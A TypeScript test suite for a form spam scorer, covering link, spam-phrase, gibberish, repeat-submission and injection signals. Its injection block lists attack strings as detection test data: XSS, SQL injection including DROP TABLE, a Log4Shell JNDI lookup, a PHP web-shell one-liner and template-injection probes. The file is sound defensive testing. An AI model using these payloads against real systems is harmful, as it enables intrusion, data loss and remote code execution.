import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it, type TestContext } from 'node:test';
import { Redis } from 'ioredis';
import { looksRandom } from '../../src/spam/gibberish.js';
import { NO_COUNTS } from '../../src/spam/learned-filter.js';
import { SPAM_THRESHOLD } from '../../src/spam/score-rules.js';
import { MemoryRepeatLog, RedisRepeatLog, type RepeatLog } from '../../src/spam/repeats.js';
import { REPEAT_WINDOW_MS, SpamScorer, type SpamVerdict } from '../../src/spam/score.js';
import { connectTestRedis } from '../helpers/redis.js';

type Submission = Record<string, unknown>;

function corpus(name: 'ham' | 'spam'): Submission[] {
  return JSON.parse(readFileSync(new URL(`../fixtures/spam-corpus/${name}.json`, import.meta.url), 'utf8')) as Submission[];
}

let nextIp = 0;
// The rules' own tests score with a filter that has learned nothing, so that each rule's points are
// what they assert; the corpus is judged as a submission is, with the shipped base model.
const rulesOnly = new SpamScorer({ base: NO_COUNTS });
const withBaseModel = new SpamScorer();

// A fresh address each time, so the repeat signal never mixes into a content test.
async function scoreOnce(data: Submission, scorer = rulesOnly): Promise<SpamVerdict> {
  return scorer.score(data, `198.51.100.${nextIp++ % 256}`);
}

function describeVerdict(data: Submission, verdict: SpamVerdict): string {
  return `${JSON.stringify(data)} scored ${verdict.score}: ${verdict.reasons.join('; ') || 'no reasons'}`;
}

// NOTE: every assert has a message: without one, a failure makes node quote the transpiled source.
async function assertHam(data: Submission, scorer = rulesOnly): Promise<SpamVerdict> {
  const verdict = await scoreOnce(data, scorer);
  assert.equal(verdict.spam, false, `should pass: ${describeVerdict(data, verdict)}`);
  return verdict;
}

async function assertSpam(data: Submission, scorer = rulesOnly): Promise<SpamVerdict> {
  const verdict = await scoreOnce(data, scorer);
  assert.equal(verdict.spam, true, `should be spam: ${describeVerdict(data, verdict)}`);
  return verdict;
}

async function scoreOf(message: string): Promise<number> {
  return (await scoreOnce({ message })).score;
}

describe('spam corpus', () => {
  const ham = corpus('ham');
  const spam = corpus('spam');

  it('holds at least 40 of each', async () => {
    assert.ok(ham.length >= 40, `ham has ${ham.length} entries`);
    assert.ok(spam.length >= 40, `spam has ${spam.length} entries`);
  });

  for (const [index, entry] of ham.entries()) {
    it(`passes ham #${index}`, async () => {
      await assertHam(entry, withBaseModel);
    });
  }

  for (const [index, entry] of spam.entries()) {
    it(`catches spam #${index}`, async () => {
      await assertSpam(entry, withBaseModel);
    });
  }
});

describe('SpamScorer verdict', () => {
  it('is spam from the threshold up, and lists each signal with its points', async () => {
    const verdict = await scoreOnce({ message: 'viagra and cialis' });
    assert.equal(verdict.score, SPAM_THRESHOLD + 2);
    assert.equal(verdict.spam, true);
    assert.deepEqual(verdict.reasons, ['spam phrase "viagra" (+6)', 'spam phrase "cialis" (+6)']);
    const one = await scoreOnce({ message: 'viagra' });
    assert.deepEqual({ spam: one.spam, score: one.score, reasons: one.reasons }, { spam: false, score: 6, reasons: ['spam phrase "viagra" (+6)'] });
  });

  it('never quotes the visitor in its reasons, which are logged', async () => {
    const verdict = await scoreOnce({ name: 'qzxwvjk plkjhgf', message: 'secret-token http://evil-one.example http://evil-two.example http://bit.ly/evil' });
    assert.equal(verdict.spam, true, describeVerdict({}, verdict));
    for (const reason of verdict.reasons) assert.doesNotMatch(reason, /evil|secret|qzx|plk/, reason);
  });

  it('reads values only, never field names', async () => {
    assert.equal((await scoreOnce({ viagra: 'hello', cialis: 'there', 'http://a.example': 'x', 'http://b.example': 'y' })).score, 0);
  });

  it('passes ordinary messages', async () => {
    const messages = [
      "Hi, I'd like a quote for a kitchen renovation, here is my site https://example.com",
      'ok',
      'Yes',
      '👍',
      '+1 (555) 123-4567',
      '07700 900123',
      'Flat 3, 14 Rue de la Paix, 75002 Paris, France',
      '1600 Amphitheatre Pkwy, Mountain View, CA 94043',
      'Postcode: SW1A 1AA, EC1A 1BB, D02 X285, 10115 Berlin',
      'My order number is ORD-2024-XK91-QZ and the tracking code is 1Z999AA10123456784.',
      'Booking reference QXZTRBW, invoice INV-00042, ticket #A7K2291XQ',
      'What is the price of the large table? Is shipping included?',
      'Do you do SEO? We are a small shop.',
      'Could you send me the price list and tell me whether you offer SEO for small sites?',
      'Je voudrais réserver une table pour quatre personnes samedi soir. Merci !',
      'Könnten Sie mir bitte ein Angebot für die Dachrinnenreinigung schicken? Vielen Dank.',
      'Здравствуйте! Сколько стоит доставка в Новосибирск?',
      '来週の月曜日に予約できますか？よろしくお願いします。',
      'هل يمكنني تغيير موعد الحجز إلى الأسبوع القادم؟',
      'Skills: JavaScript: 5 years, TypeScript, SQL (PostgreSQL, union of tables, select queries)',
      'I <3 your shop. If a < b and c > d then the sizes fit, right?',
      'Contact me at Ada Lovelace <ada@example.com> or ada.lovelace+forms@example.co.uk',
      'Here is my portfolio: https://ada.example/work and my CV is attached to my email.',
      'Visit us at www.example.com',
      'I loop over array[i] and items[j] in my code, and it breaks.',
      'long '.repeat(2000),
    ];
    for (const message of messages) await assertHam({ name: 'Visitor', email: 'visitor@example.com', message });
  });
});

describe('link signal', () => {
  it('lets one link through and counts several', async () => {
    assert.equal(await scoreOf('see https://a.example'), 0);
    assert.equal(await scoreOf('see https://a.example and https://b.example'), 2);
    assert.equal(await scoreOf('https://a.example https://b.example https://c.example'), 4);
    await assertSpam({ message: Array.from({ length: 6 }, (_, i) => `https://site${i}.example/page`).join(' ') });
  });

  it('takes many links in prose for a hint, and a message of little but links for a link farm (issue 40)', async () => {
    const links = Array.from({ length: 6 }, (_, i) => `https://site${i}.example/page`);
    const prose = links
      .map((link, i) => `The ${['first', 'second', 'third', 'fourth', 'fifth', 'sixth'][i]} chapter of our report is at ${link} for you.`)
      .join(' ');
    const inProse = await scoreOnce({ message: prose });
    assert.ok(inProse.reasons.includes('6 links (+8)'), inProse.reasons.join('; '));
    const listed = await scoreOnce({ message: `Useful pages: ${links.join(' ')}` });
    assert.ok(listed.reasons.includes('6 links with little else (+10)'), listed.reasons.join('; '));
    assert.equal(listed.spam, true);
  });

  it('counts www. links and bare domains with common endings, but not e-mail addresses', async () => {
    assert.equal(await scoreOf('www.a.example www.b.example'), 2);
    assert.equal(await scoreOf('cheap.shop best.store sale.online'), 4);
    assert.equal(await scoreOf('write to ada@example.com, bob@example.org or carol@example.net'), 0);
    assert.equal(await scoreOf('john.info@example.com'), 0);
  });

  it('does not count abbreviations and capitalised words as domains', async () => {
    assert.equal(await scoreOf('Bezp.Org. Kārkliņš, Sp.Z.O.O., Berlin.In the morning, e.g. i.e. Ph.D.'), 0);
  });

  it('counts a link once, even with a domain in its path', async () => {
    assert.equal(await scoreOf('https://a.example/?next=other.com/path www.b.example/go?to=c.net'), 2);
  });

  it('weighs shorteners more', async () => {
    const verdict = await scoreOnce({ message: 'see bit.ly/abc' });
    assert.equal(verdict.score, 4);
    assert.deepEqual(verdict.reasons, ['1 shortened link (+4)']);
    assert.equal(await scoreOf('https://tinyurl.com/x and https://t.co/y'), 2 + 8);
  });

  it('weighs links in BBCode or HTML markup more', async () => {
    assert.equal(await scoreOf('[url=https://a.example]here[/url]'), 5 + 4, 'markup, and BBCode');
    assert.equal(await scoreOf('<a href="https://a.example">here</a>'), 5 + 2, 'markup, and two HTML tags');
    await assertSpam({ message: '[url=https://a.example]a[/url] [url=https://b.example]b[/url]' });
  });
});

describe('spam phrase signal', () => {
  it('scores known phrases whatever their case and spacing', async () => {
    assert.equal(await scoreOf('Dear  SIR / Madam, hello'), 1);
    assert.equal(await scoreOf('dear sir or madam'), 1);
    assert.equal(await scoreOf('We sell guest posts'), 1);
    assert.equal(await scoreOf('payday loans'), 6);
    assert.equal(await scoreOf('risk free, risk-free, riskfree'), 1, 'one phrase, counted once');
  });

  it('counts each phrase once however often it appears', async () => {
    assert.equal(await scoreOf('casino casino casino casino'), 1);
  });

  it('matches whole words only', async () => {
    assert.equal(await scoreOf('casinos'), 0);
    assert.equal(await scoreOf('pornography studies'), 0);
    assert.equal(await scoreOf('Pharmaceutical viagrafoo'), 0);
  });

  it('prefers the longer, stronger phrase at one place', async () => {
    assert.deepEqual((await scoreOnce({ message: 'casino bonus' })).reasons, ['spam phrase "casino bonus" (+6)']);
  });

  it('lets an honest question with one or two marketing words through', async () => {
    await assertHam({ message: 'Do you offer SEO services, and what is the price?' });
    await assertHam({ message: 'Our website traffic fell after the move; can you get us back on the first page of Google?' });
  });

  it('sees through zero-width characters, full-width letters and Cyrillic look-alikes', async () => {
    assert.equal(await scoreOf('via\u200Bgra'), 6);
    assert.equal(await scoreOf('ｃｉａｌｉｓ'), 6);
    assert.equal(await scoreOf('viаgra'), 6, 'a Cyrillic а inside a Latin word');
    assert.equal(await scoreOf('Сазіно'), 0, 'a word wholly in Cyrillic is left alone');
  });

  it('stops adding at its cap', async () => {
    const verdict = await scoreOnce({ message: 'viagra cialis levitra kamagra sildenafil tadalafil' });
    assert.equal(verdict.score, 20);
  });
});

describe('injection and markup signal', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '< SCRIPT src=//x.example/a.js>',
    '<iframe src="https://x.example"></iframe>',
    '<object data="x.swf">',
    '<a href="javascript:alert(1)">x</a>',
    'JAVASCRIPT:alert(document.domain)',
    'data:text/html;base64,PHNjcmlwdD4=',
    '<img src=x onerror=alert(1)>',
    '<svg onload = alert(1)>',
    "' or 1=1 --",
    "admin' OR '1'='1",
    '" or "1"="1',
    '1 UNION ALL SELECT NULL,NULL--',
    "x'; DROP TABLE users; --",
    "1' AND SLEEP(5)#",
    "'; WAITFOR DELAY '0:0:5'--",
    'SELECT * FROM information_schema.tables',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, `${...}` included, is the text under test
    '${jndi:ldap://x.example/a}',
    '<?php system($_GET["c"]); ?>',
    '{{7*7}}',
    '{{config.items()}}',
  ];
  for (const attack of attacks) {
    it(`is spam on its own: ${attack}`, async () => {
      await assertSpam({ name: 'x', message: attack });
    });
  }

  it('scores other HTML and BBCode without making them spam alone', async () => {
    assert.equal(await scoreOf('<b>hello</b>'), 2);
    assert.equal(await scoreOf('<p>one</p><p>two</p>'), 4);
    assert.equal(await scoreOf('[b]bold[/b]'), 4);
  });

  it('leaves words that merely name these things alone', async () => {
    for (const message of [
      'I wrote a script to import the data, is there an API?',
      'We are a JavaScript agency; the trade union selected us.',
      'Please select an option or call me; 1 = yes',
      'the onion = fine, onboard = done',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a harmless message with a literal `${...}` that must not score
      'My son loves {{handlebars}} templates and ${money}',
    ]) {
      assert.equal(await scoreOf(message), 0, message);
    }
  });
});

describe('gibberish signal', () => {
  it('recognises random and keyboard-mashed words', async () => {
    for (const word of ['asdkjhqwe', 'lkjzxcv', 'qzxwvjk', 'asdfgh', 'hjklhjkl', 'XqWtRzPlMn', 'bcdfghjkl', 'wxqzrt', 'jdkrczzvxy']) {
      assert.equal(looksRandom(word), true, word);
    }
  });

  it('leaves real words and names of many languages alone', async () => {
    const words = [
      'rhythm',
      'strengths',
      'twelfths',
      'Angstschweiß',
      'Geschichtsschreibung',
      'Weltschmerz',
      'Rechtsstreit',
      'Volkssprache',
      'Szczepański',
      'Szczepanski',
      'Przybyszewski',
      'Krzysztof',
      'Chrzanowski',
      'Strzelczyk',
      'Wojciechowski',
      'Brzęczyszczykiewicz',
      'Mkrtchyan',
      'Tchaikovsky',
      'Schwarzschild',
      'Dijkstra',
      'Nguyen',
      'Huynh',
      'Xiaoqing',
      'Qiang',
      'Nyqvist',
      'Holmqvist',
      'Blomqvist',
      'Llewellyn',
      'Cwmbran',
      'Llwyd',
      'Gwynedd',
      'Tshabalala',
      'Mthembu',
      'Nkechi',
      'Mqwebu',
      'Berxwedan',
      'qiziqmoqchi',
      'McDonald',
      'MacArthur',
      'iPhone',
      'DeShawn',
      'LaToya',
      'JavaScript',
      'PowerPoint',
      'HubSpotCRM',
      'QWERTY',
      'HTTPS',
      'MMXXIV',
      'QXZTRBWKLP',
      'hmmmmm',
      'Shhhhh',
      'Brrrr',
      'Zzzzzz',
      'Iraq',
      'Qatar',
      'Qashqai',
    ];
    for (const word of words) assert.equal(looksRandom(word), false, word);
  });

  it('is spam when most words of a submission are random', async () => {
    const verdict = await assertSpam({ name: 'asdkjhqwe', email: 'xkqzvbt@mail.example', message: 'lkjzxcv qwpoeiru' });
    assert.deepEqual(verdict.reasons, ['2 random-looking words of 3 (+10)']);
  });

  it('only scores a little for one odd word among honest ones', async () => {
    assert.equal(await scoreOf('Hello, my cat walked over the keyboard and typed asdfgh, sorry about that!'), 3);
  });

  it('does not count e-mail addresses, links, numbers, codes or other scripts', async () => {
    await assertHam({ name: 'Xzq', email: 'xkqzvbt.lkjzxcv@qwzx.example', message: 'https://qzxwvjk.example/lkjzxcv?q=bcdfghjkl' });
    assert.equal(
      (await scoreOnce({ name: 'Иван Петров', phone: '+7 495 123-45-67', order: 'A7K-2291-XQ', postcode: 'SW1A 1AA', vat: 'PL5261040828' })).score,
      0,
    );
    assert.equal((await scoreOnce({ name: '张伟', message: '请问营业时间？' })).score, 0);
    assert.equal((await scoreOnce({ name: 'محمد عبد الله', message: 'شكرا جزيلا' })).score, 0);
  });

  it('counts letters and digits mixed together in a name-like field only', async () => {
    assert.equal((await scoreOnce({ name: 'k8jd9f2' })).score, 3);
    assert.equal((await scoreOnce({ first_name: 'x9v2b7n1', last_name: 'q7w8e9r0t' })).score, 10);
    assert.equal((await scoreOnce({ message: 'k8jd9f2' })).score, 0, 'a code in a message is fine');
    assert.equal((await scoreOnce({ username: 'john1987', company: 'B2B Partners', name: 'Apollo 11' })).score, 0);
  });

  it('counts a repeated random word once', async () => {
    assert.equal(await scoreOf('asdfgh asdfgh asdfgh and some honest words around it here'), 3);
  });
});

const minute = 60_000;
const message = { name: 'Ada', message: 'Hello, is the shop open on Sunday?' };

function clock(): { now: () => number; advance: (ms: number) => void } {
  let time = 1_700_000_000_000;
  return {
    now: () => time,
    advance: (ms) => {
      time += ms;
    },
  };
}

let redisPrefixes = 0;
/** A Redis repeat log under a prefix of its own (removed after the test), or null when Redis does not answer (the test is skipped). */
async function redisLog(t: TestContext, prefix = `formgate-repeat-test-${process.pid}-${++redisPrefixes}:`): Promise<RedisRepeatLog | null> {
  const redis = await connectTestRedis(t);
  if (!redis) return null;
  t.after(async () => {
    const keys = await redis.keys(`${prefix}*`);
    if (keys.length > 0) await redis.del(...keys);
    redis.disconnect();
  });
  return new RedisRepeatLog(redis, new MemoryRepeatLog(), prefix);
}

// The same behaviour from this process's memory and from Redis (shared by every instance).
const LOGS: { name: string; open(t: TestContext): Promise<RepeatLog | undefined> }[] = [
  { name: 'in memory', open: async () => new MemoryRepeatLog() },
  { name: 'in Redis', open: async (t) => (await redisLog(t)) ?? undefined },
];

for (const log of LOGS) {
  describe(`repeat signal, ${log.name}`, () => {
    it('passes two identical submissions from one address and catches the third', async (t) => {
      const time = clock();
      const scorer = new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: await log.open(t) });
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, false, 'first');
      time.advance(minute);
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, false, 'second');
      time.advance(minute);
      const third = await scorer.score(message, '203.0.113.7');
      assert.equal(third.spam, true, 'third');
      assert.deepEqual(third.reasons, ['same content 3 or more times from this address within 10 minutes (+10)']);
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, true, 'fourth');
    });

    it('does not count other addresses or other content', async (t) => {
      const time = clock();
      const scorer = new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: await log.open(t) });
      await scorer.score(message, '203.0.113.7');
      await scorer.score(message, '203.0.113.7');
      assert.equal((await scorer.score(message, '203.0.113.8')).spam, false, 'another address');
      assert.equal((await scorer.score(message, '2001:db8::1')).spam, false, 'an IPv6 address');
      assert.equal((await scorer.score({ ...message, message: 'Is it open on Monday?' }, '203.0.113.7')).spam, false, 'other content');
      assert.equal((await scorer.score({ name: 'Ada', note: message.message }, '203.0.113.7')).spam, false, 'same text in another field');
    });

    it('treats case and spacing changes as the same content', async (t) => {
      const scorer = new SpamScorer({ base: NO_COUNTS, now: clock().now, repeats: await log.open(t) });
      await scorer.score(message, '203.0.113.7');
      await scorer.score({ name: 'ADA', message: '  Hello,   is the shop\nopen on Sunday? ' }, '203.0.113.7');
      assert.equal((await scorer.score({ name: 'ada', message: 'hello, is the shop open on sunday?' }, '203.0.113.7')).spam, true);
    });

    it('forgets submissions older than the window', async (t) => {
      const time = clock();
      const scorer = new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: await log.open(t) });
      await scorer.score(message, '203.0.113.7');
      await scorer.score(message, '203.0.113.7');
      time.advance(REPEAT_WINDOW_MS);
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, false, 'after the window it passes again');
    });

    it('keeps a sliding window', async (t) => {
      const time = clock();
      const scorer = new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: await log.open(t) });
      await scorer.score(message, '203.0.113.7');
      time.advance(9 * minute);
      await scorer.score(message, '203.0.113.7');
      time.advance(2 * minute);
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, false, 'the first is out of the window: two in it');
      time.advance(minute);
      assert.equal((await scorer.score(message, '203.0.113.7')).spam, true, 'three within ten minutes');
    });
  });
}

describe('repeat signal across instances', () => {
  it('counts the sightings of every instance sharing Redis together', async (t) => {
    const prefix = `formgate-repeat-test-${process.pid}-shared:`;
    const [a, b] = [await redisLog(t, prefix), await redisLog(t, prefix)];
    if (!a || !b) return;
    const time = clock();
    const [first, second] = [new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: a }), new SpamScorer({ base: NO_COUNTS, now: time.now, repeats: b })];
    assert.equal((await first.score(message, '203.0.113.7')).spam, false);
    time.advance(minute);
    assert.equal((await second.score(message, '203.0.113.7')).spam, false);
    time.advance(minute);
    assert.equal((await first.score(message, '203.0.113.7')).spam, true, 'the third, though the first instance saw only two');
  });

  it('counts in this process while Redis does not answer', async () => {
    const unreachable = new Redis('redis://127.0.0.1:1', { lazyConnect: true, maxRetriesPerRequest: 0, retryStrategy: () => null });
    unreachable.on('error', () => undefined);
    const scorer = new SpamScorer({ base: NO_COUNTS, now: clock().now, repeats: new RedisRepeatLog(unreachable, new MemoryRepeatLog()) });
    await scorer.score(message, '203.0.113.7');
    await scorer.score(message, '203.0.113.7');
    assert.equal((await scorer.score(message, '203.0.113.7')).spam, true);
    unreachable.disconnect();
  });
});

describe('repeat signal in memory, bounded', () => {
  it('remembers at most maxTracked address and content pairs, forgetting the least recent', async () => {
    const repeats = new MemoryRepeatLog(2);
    const scorer = new SpamScorer({ base: NO_COUNTS, now: clock().now, repeats });
    for (let i = 0; i < 50; i++) await scorer.score({ message: `note ${i}` }, `203.0.113.${i}`);
    assert.equal(repeats.size, 2);

    await scorer.score(message, '203.0.113.7');
    await scorer.score(message, '203.0.113.7');
    await scorer.score({ message: 'other one' }, '203.0.113.7');
    await scorer.score({ message: 'other two' }, '203.0.113.7');
    assert.equal((await scorer.score(message, '203.0.113.7')).spam, false, 'forgotten, so this counts as the first again');
  });

  it('holds a default bound', async () => {
    const repeats = new MemoryRepeatLog();
    const scorer = new SpamScorer({ base: NO_COUNTS, now: clock().now, repeats });
    for (let i = 0; i < 10_050; i++) await scorer.score({ m: String(i) }, '203.0.113.9');
    assert.equal(repeats.size, 10_000);
  });
});

describe('large and odd input', () => {
  it('scores 1 MB values in bounded work', async () => {
    const megabyte = 1024 * 1024;
    const values = [
      'a'.repeat(megabyte),
      'a.'.repeat(megabyte / 2),
      '<a '.repeat(megabyte / 3),
      '[url'.repeat(megabyte / 4),
      'www.'.repeat(megabyte / 4),
      "' or ".repeat(megabyte / 5),
      `dear${' '.repeat(megabyte)}`,
      'a@'.repeat(megabyte / 2),
      'viagra '.repeat(megabyte / 7),
      'Ab1'.repeat(megabyte / 3),
    ];
    for (const value of values) {
      const verdict = await rulesOnly.score({ message: value, other: [value, { deeper: value }] }, '203.0.113.1');
      assert.equal(typeof verdict.score, 'number', value.slice(0, 20));
    }
    assert.equal((await scoreOnce({ message: 'viagra '.repeat(megabyte / 7) })).score, 6, 'repeats of one phrase count once');
  });

  it('reads only the start of a huge value', async () => {
    assert.equal((await scoreOnce({ message: `${'honest words '.repeat(3000)} viagra cialis` })).score, 0, 'past the first 20,000 characters');
  });

  it('accepts numbers, booleans, nulls, empty values and deep or shared structures', async () => {
    const shared = { note: 'hi' };
    const cyclic: Submission = { a: 'x' };
    cyclic.self = cyclic;
    let deep: unknown = 'deep';
    for (let i = 0; i < 5_000; i++) deep = [deep];
    const data: Submission = { n: 42, b: true, z: null, u: undefined, e: '', arr: [], obj: {}, s1: shared, s2: shared, cyclic, deep };
    await assert.doesNotReject(() => new SpamScorer().score(data, ''), 'odd values');
    assert.equal((await scoreOnce({})).score, 0);
  });
});
